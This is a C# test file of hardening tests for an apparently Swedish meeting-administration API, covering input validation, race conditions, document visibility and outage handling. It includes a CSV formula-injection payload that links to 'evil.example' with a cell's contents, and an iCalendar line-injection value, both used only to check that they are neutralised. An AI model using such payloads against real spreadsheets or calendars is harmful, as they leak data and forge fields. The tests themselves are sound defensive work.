using System.Net;
using System.Net.Http.Json;
using System.Text;
using Npgsql;
using Samverkan.Domain.Bodies;
using Samverkan.Domain.Counties;
using Samverkan.Domain.Meetings;
using Samverkan.Tests.Domain;
using Samverkan.Tests.Support;
using Samverkan.Web.Features.Meetings;
using Samverkan.Web.Infrastructure;
using Samverkan.Web.Infrastructure.Documents;

namespace Samverkan.Tests.Hardening;

/// <summary>Bad input gets a clear 400 and nothing is stored; races get consecutive numbers; nothing is public before it should be.</summary>
public sealed class InputTests
{
    private static async Task<string> SrbAsync(HttpClient client) =>
        (await client.GetJsonAsync("/api/v1/counties/19/bodies")).EnumerateArray().Single(b => b.Str("shortName") == "SRB").Str("id");

    private static async Task<string> PlanAsync(HttpClient client, string body, string startsAt)
    {
        var response = await client.PostAsJsonAsync($"/api/v1/bodies/{body}/meetings",
            new { startsAt, endsAt = DateTimeOffset.Parse(startsAt, System.Globalization.CultureInfo.InvariantCulture).AddHours(3), location = "Regionhuset, Västerås" });
        response.StatusCode.ShouldBe(HttpStatusCode.Created, await response.Content.ReadAsStringAsync());
        return (await response.JsonAsync()).Str("id");
    }

    [Theory]
    [InlineData(DatabaseProvider.Sqlite)]
    [InlineData(DatabaseProvider.Postgres)]
    public async Task TextLongerThanItsColumn_NulCharacters_AndUnknownEnumValues_Are400PerField_AndNothingIsStored(DatabaseProvider provider)
    {
        await using var factory = await FreshApp.StartAsync(provider);
        using var client = await factory.ApiClientAsync("sekretariat.vastmanland");
        var srb = await SrbAsync(client);
        var meeting = await PlanAsync(client, srb, "2027-02-11T09:00:00+01:00");

        var tooLong = await client.PostAsJsonAsync($"/api/v1/meetings/{meeting}/agenda-items", new { title = new string('x', 1_000_000) });
        tooLong.StatusCode.ShouldBe(HttpStatusCode.BadRequest);
        (await tooLong.JsonAsync()).GetProperty("errors").GetProperty("title")[0].GetString().ShouldBe("Fältet title får vara högst 300 tecken (nu 1 000 000).");

        var nul = await client.PostAsJsonAsync($"/api/v1/meetings/{meeting}/agenda-items", new { title = "Budget\u0000 2027" });
        nul.StatusCode.ShouldBe(HttpStatusCode.BadRequest);
        (await nul.JsonAsync()).GetProperty("errors").GetProperty("title")[0].GetString().ShouldBe("Fältet title får inte innehålla radbrytningar, tabbar eller andra styrtecken.");

        var enumValue = await client.PostAsync("/api/v1/counties/19/scenarios",
            new StringContent("""{"name":"Lika delar","year":2027,"key":99}""", Encoding.UTF8, "application/json"));
        enumValue.StatusCode.ShouldBe(HttpStatusCode.BadRequest);
        (await enumValue.JsonAsync()).GetProperty("errors").GetProperty("key")[0].GetString().ShouldBe("Värdet 99 är inte tillåtet i fältet key.");

        (await client.GetJsonAsync($"/api/v1/meetings/{meeting}")).GetProperty("agenda").GetArrayLength().ShouldBe(0);
        (await client.GetJsonAsync("/api/v1/counties/19/scenarios")).GetArrayLength().ShouldBe(0);
    }

    [Theory]
    [InlineData(DatabaseProvider.Sqlite)]
    [InlineData(DatabaseProvider.Postgres)]
    public async Task AScenarioWithAnAbsurdUplift_IsRefused_AndNoViewBreaks(DatabaseProvider provider)
    {
        await using var factory = await FreshApp.StartAsync(provider);
        using var client = await factory.ApiClientAsync("sekretariat.vastmanland");
        var response = await client.PostAsync("/api/v1/counties/19/scenarios",
            new StringContent("""{"name":"Fel","year":2027,"upliftPercent":-7.9e28}""", Encoding.UTF8, "application/json"));
        response.StatusCode.ShouldBe(HttpStatusCode.UnprocessableEntity);
        (await response.JsonAsync()).Str("rule").ShouldBe("ScenarioUpliftRange");
        (await client.GetJsonAsync("/api/v1/counties/19/scenarios")).GetArrayLength().ShouldBe(0);
    }

    [Theory]
    [InlineData(DatabaseProvider.Sqlite)]
    [InlineData(DatabaseProvider.Postgres)]
    public async Task TenParallelAgendaItems_AllSucceed_WithConsecutiveNumbers(DatabaseProvider provider)
    {
        await using var factory = await FreshApp.StartAsync(provider);
        var clients = await Task.WhenAll(Enumerable.Range(0, 10).Select(_ => factory.ApiClientAsync("sekretariat.vastmanland")));
        var meeting = await PlanAsync(clients[0], await SrbAsync(clients[0]), "2027-02-11T09:00:00+01:00");

        var responses = await Task.WhenAll(clients.Select((c, i) => c.PostAsJsonAsync($"/api/v1/meetings/{meeting}/agenda-items", new { title = $"Ärende {i}" })));

        var bodies = await Task.WhenAll(responses.Select(r => r.Content.ReadAsStringAsync()));
        responses.Select(r => r.StatusCode).ShouldAllBe(s => s == HttpStatusCode.Created, string.Join("\n", bodies));
        var numbers = (await clients[0].GetJsonAsync($"/api/v1/meetings/{meeting}")).GetProperty("agenda").EnumerateArray().Select(a => a.GetProperty("number").GetInt32()).Order();
        numbers.ShouldBe(Enumerable.Range(1, 10));
        foreach (var client in clients)
        {
            client.Dispose();
        }
    }

    [Theory]
    [InlineData("")]
    [InlineData("0")]
    [InlineData("no")]
    [InlineData("nej")]
    [InlineData("off")]
    [InlineData("1")]
    [InlineData(null)]
    public async Task ADocument_IsNotPublic_UnlessIsPublicIsTrue(string? isPublic)
    {
        await using var factory = await FreshApp.StartAsync(DatabaseProvider.Sqlite);
        using var client = await factory.ApiClientAsync("sekretariat.vastmanland");
        var meeting = await PlanAsync(client, await SrbAsync(client), "2026-12-16T09:00:00+01:00");
        var item = (await (await client.PostAsJsonAsync($"/api/v1/meetings/{meeting}/agenda-items", new { title = "Regional utvecklingsstrategi" })).JsonAsync()).Str("id");
        using var form = new MultipartFormDataContent { { new ByteArrayContent(Encoding.ASCII.GetBytes("%PDF-1.7\n% test\n")), "file", "Underlag.pdf" } };
        if (isPublic is not null)
        {
            form.Add(new StringContent(isPublic), "isPublic");
        }

        var upload = await client.PostAsync($"/api/v1/meetings/{meeting}/agenda-items/{item}/documents", form);
        upload.StatusCode.ShouldBe(HttpStatusCode.Created);
        var document = await upload.JsonAsync();
        document.GetProperty("isPublic").GetBoolean().ShouldBeFalse();
        (await client.PostAsync($"/api/v1/meetings/{meeting}/notice", null)).StatusCode.ShouldBe(HttpStatusCode.OK);
        using var anonymous = factory.CreateClient();
        (await anonymous.GetAsync($"/public/documents/{document.Str("id")}")).StatusCode.ShouldBe(HttpStatusCode.NotFound);
    }

    [Fact]
    public async Task NothingOfAMeeting_IsPublic_BeforeItsNoticeIsSent()
    {
        await using var factory = await FreshApp.StartAsync(DatabaseProvider.Sqlite);
        using var client = await factory.ApiClientAsync("sekretariat.vastmanland");
        var srb = await SrbAsync(client);
        var meeting = await PlanAsync(client, srb, "2026-12-18T09:00:00+01:00");
        (await client.PostAsJsonAsync($"/api/v1/meetings/{meeting}/agenda-items", new { title = "Hemligt ärende om markförvärv" })).StatusCode.ShouldBe(HttpStatusCode.Created);

        using var anonymous = factory.CreateClient();
        var before = WebUtility.HtmlDecode(await anonymous.GetStringAsync($"/public/bodies/{srb}"));
        before.ShouldNotContain("Hemligt ärende om markförvärv");
        before.ShouldNotContain("2026-12-18");

        (await client.PostAsync($"/api/v1/meetings/{meeting}/notice", null)).StatusCode.ShouldBe(HttpStatusCode.OK);
        WebUtility.HtmlDecode(await anonymous.GetStringAsync($"/public/bodies/{srb}")).ShouldContain("Hemligt ärende om markförvärv");
    }

    [Fact]
    public async Task ABrokenMultipartBody_Is400_NotA500()
    {
        await using var factory = await FreshApp.StartAsync(DatabaseProvider.Sqlite);
        using var client = await factory.ApiClientAsync("sekretariat.vastmanland");
        var meeting = await PlanAsync(client, await SrbAsync(client), "2027-02-11T09:00:00+01:00");
        var item = (await (await client.PostAsJsonAsync($"/api/v1/meetings/{meeting}/agenda-items", new { title = "Ärende" })).JsonAsync()).Str("id");
        var broken = new StringContent("--grans\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.pdf\"\r\n\r\n%PDF-1.7 och sedan inget slut", Encoding.UTF8);
        broken.Headers.ContentType = System.Net.Http.Headers.MediaTypeHeaderValue.Parse("multipart/form-data; boundary=grans");
        var response = await client.PostAsync($"/api/v1/meetings/{meeting}/agenda-items/{item}/documents", broken);
        response.StatusCode.ShouldBe(HttpStatusCode.BadRequest);
        response.Content.Headers.ContentType!.MediaType.ShouldBe("application/problem+json");
    }

    [Theory]
    [InlineData(DatabaseProvider.Sqlite)]
    [InlineData(DatabaseProvider.Postgres)]
    public async Task ControlCharactersInTheQuery_And_ASeriesNameOver20Characters_Are400(DatabaseProvider provider)
    {
        await using var factory = await FreshApp.StartAsync(provider);
        using var secretariat = await factory.ApiClientAsync("sekretariat.vastmanland");
        var audit = await secretariat.GetAsync("/api/v1/counties/19/audit?entityType=%00");
        audit.StatusCode.ShouldBe(HttpStatusCode.BadRequest);
        (await audit.JsonAsync()).Str("detail").ShouldBe("Parametern entityType innehåller otillåtna tecken (styrtecken).");

        using var admin = await factory.ApiClientAsync("admin");
        var series = await admin.PutAsJsonAsync($"/api/v1/index-series/{new string('L', 21)}/2026",
            new { changePercent = 2.0m, isFinal = true, source = "SKR", publishedOn = "2026-11-20" });
        series.StatusCode.ShouldBe(HttpStatusCode.BadRequest);
        (await series.JsonAsync()).GetProperty("errors").EnumerateObject().Select(e => e.Name).ShouldBe(["series"]);
    }

    [Fact]
    public async Task TheDatabaseDown_Is503WithRetryAfter()
    {
        await using var factory = await FreshApp.StartAsync(DatabaseProvider.Postgres);
        using var client = await factory.ApiClientAsync("sekretariat.vastmanland");
        var database = new NpgsqlConnectionStringBuilder(factory.ConnectionString).Database!;
        await using (var admin = new NpgsqlConnection(SamverkanFactory.PostgresAdminConnectionString))
        {
            await admin.OpenAsync();
            await new NpgsqlCommand($"ALTER DATABASE \"{database}\" CONNECTION LIMIT 0", admin).ExecuteNonQueryAsync();
            await new NpgsqlCommand($"SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = '{database}' AND usename = current_user AND pid <> pg_backend_pid()", admin).ExecuteNonQueryAsync();
        }

        NpgsqlConnection.ClearAllPools();
        try
        {
            var response = await client.GetAsync("/api/v1/counties/19/agreements");
            response.StatusCode.ShouldBe(HttpStatusCode.ServiceUnavailable);
            response.Headers.RetryAfter!.Delta.ShouldBe(TimeSpan.FromSeconds(10));
            (await response.JsonAsync()).Str("detail").ShouldBe("Databasen svarar inte just nu. Inga ändringar sparades. Försök igen om en stund.");
        }
        finally
        {
            await using var admin = new NpgsqlConnection(SamverkanFactory.PostgresAdminConnectionString);
            await admin.OpenAsync();
            await new NpgsqlCommand($"ALTER DATABASE \"{database}\" CONNECTION LIMIT -1", admin).ExecuteNonQueryAsync();
        }
    }

    [Theory]
    [InlineData(DatabaseProvider.Sqlite)]
    [InlineData(DatabaseProvider.Postgres)]
    public async Task ADecisionItemOfAnotherCounty_InARequestBody_IsRefused(DatabaseProvider provider)
    {
        await using var factory = await FreshApp.StartAsync(provider);
        using var vasterbotten = await factory.ApiClientAsync("sekretariat.vasterbotten");
        using var vastmanland = await factory.ApiClientAsync("sekretariat.vastmanland");
        // A paragraph of Västerbotten's minutes, named by Västmanland's secretariat for a group under its own SRB: the
        // body is right (an SRB), so only the cross-county paragraph can refuse it.
        var bodies24 = (await vasterbotten.GetJsonAsync("/api/v1/counties/24/bodies")).EnumerateArray().Select(b => b.Str("id")).ToList();
        string? itemId = null;
        foreach (var body in bodies24)
        {
            foreach (var meeting in (await vasterbotten.GetJsonAsync($"/api/v1/bodies/{body}/meetings")).EnumerateArray())
            {
                var minutes = await vasterbotten.GetAsync($"/api/v1/meetings/{meeting.Str("id")}/minutes");
                if (minutes.IsSuccessStatusCode && (await minutes.JsonAsync()).GetProperty("items").EnumerateArray().FirstOrDefault() is { ValueKind: System.Text.Json.JsonValueKind.Object } item)
                {
                    itemId = item.Str("id");
                    break;
                }
            }

            if (itemId is not null)
            {
                break;
            }
        }

        itemId.ShouldNotBeNull();
        var srb19 = (await vastmanland.GetJsonAsync("/api/v1/counties/19/bodies")).EnumerateArray().First(b => b.Str("kind") == "StrategicRegionalCommittee").Str("id");
        var response = await vastmanland.PostAsJsonAsync($"/api/v1/bodies/{srb19}/collaboration-groups",
            new { name = "Grupp", remit = "Bereda.", decision = "SRB 2026-09-17 § 2", decisionItemId = itemId, establishedOn = "2026-11-22" });

        response.StatusCode.ShouldBe(HttpStatusCode.BadRequest, await response.Content.ReadAsStringAsync());
        (await response.JsonAsync()).GetProperty("errors").GetProperty("decisionItemId")[0].GetString()
            .ShouldBe("Beslutsparagrafen (decisionItemId) finns inte i länets protokoll.");
    }

    [Fact]
    public void CsvCells_ThatASpreadsheetWouldRunAsAFormula_AreNeutralised_AndNumbersKeepTheirSign()
    {
        var csv = Encoding.UTF8.GetString(Tabular.Csv(["Grupp", "Belopp"],
        [
            ["=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Klicka\")", -1500m],
            ["+1", 2m], ["-2", 3m], ["@SUM(A1)", 4m], ["\tflik", 5m], ["Vanlig grupp", 6m],
        ])).TrimStart('\uFEFF');
        var lines = csv.Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(l => l.TrimEnd('\r')).ToList();
        lines.ShouldBe(
        [
            "Grupp;Belopp",
            "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A2,\"\"Klicka\"\")\";-1500",
            "'+1;2", "'-2;3", "'@SUM(A1);4", "'\tflik;5", "Vanlig grupp;6",
        ]);
    }

    [Fact]
    public void ICalendar_EscapesEveryLineBreak_AndQuotesTheOrganizersName()
    {
        var county = Guid.NewGuid();
        var region = TestOrg.Region(county, "Region Västmanland");
        var body = new Body(county, BodyKind.CollaborationGroup, "PSG:mailto:evil@example.com", null, BodyRules.Default, region.Id);
        var start = new DateTimeOffset(2027, 2, 11, 9, 0, 0, TimeSpan.FromHours(1));
        var meeting = new Meeting(body, start, start.AddHours(3), "Regionhuset");
        meeting.AddAgendaItem("Budget\rX-INJ:1", null, null, null);

        var ics = Calendar.Invitation(meeting, body.Name, "srb@example.se", ["a@example.se"], start);

        ics.Split("\r\n").ShouldNotContain(l => l.StartsWith("X-INJ", StringComparison.Ordinal));
        ics.Replace("\r\n ", string.Empty, StringComparison.Ordinal).ShouldContain("1. Budget\\nX-INJ:1");
        ics.Replace("\r\n ", string.Empty, StringComparison.Ordinal).ShouldContain("ORGANIZER;CN=\"PSG:mailto:evil@example.com\":mailto:srb@example.se\r\n");
        ics.Replace("\r\n", string.Empty, StringComparison.Ordinal).ShouldNotContain("\r");
    }
}
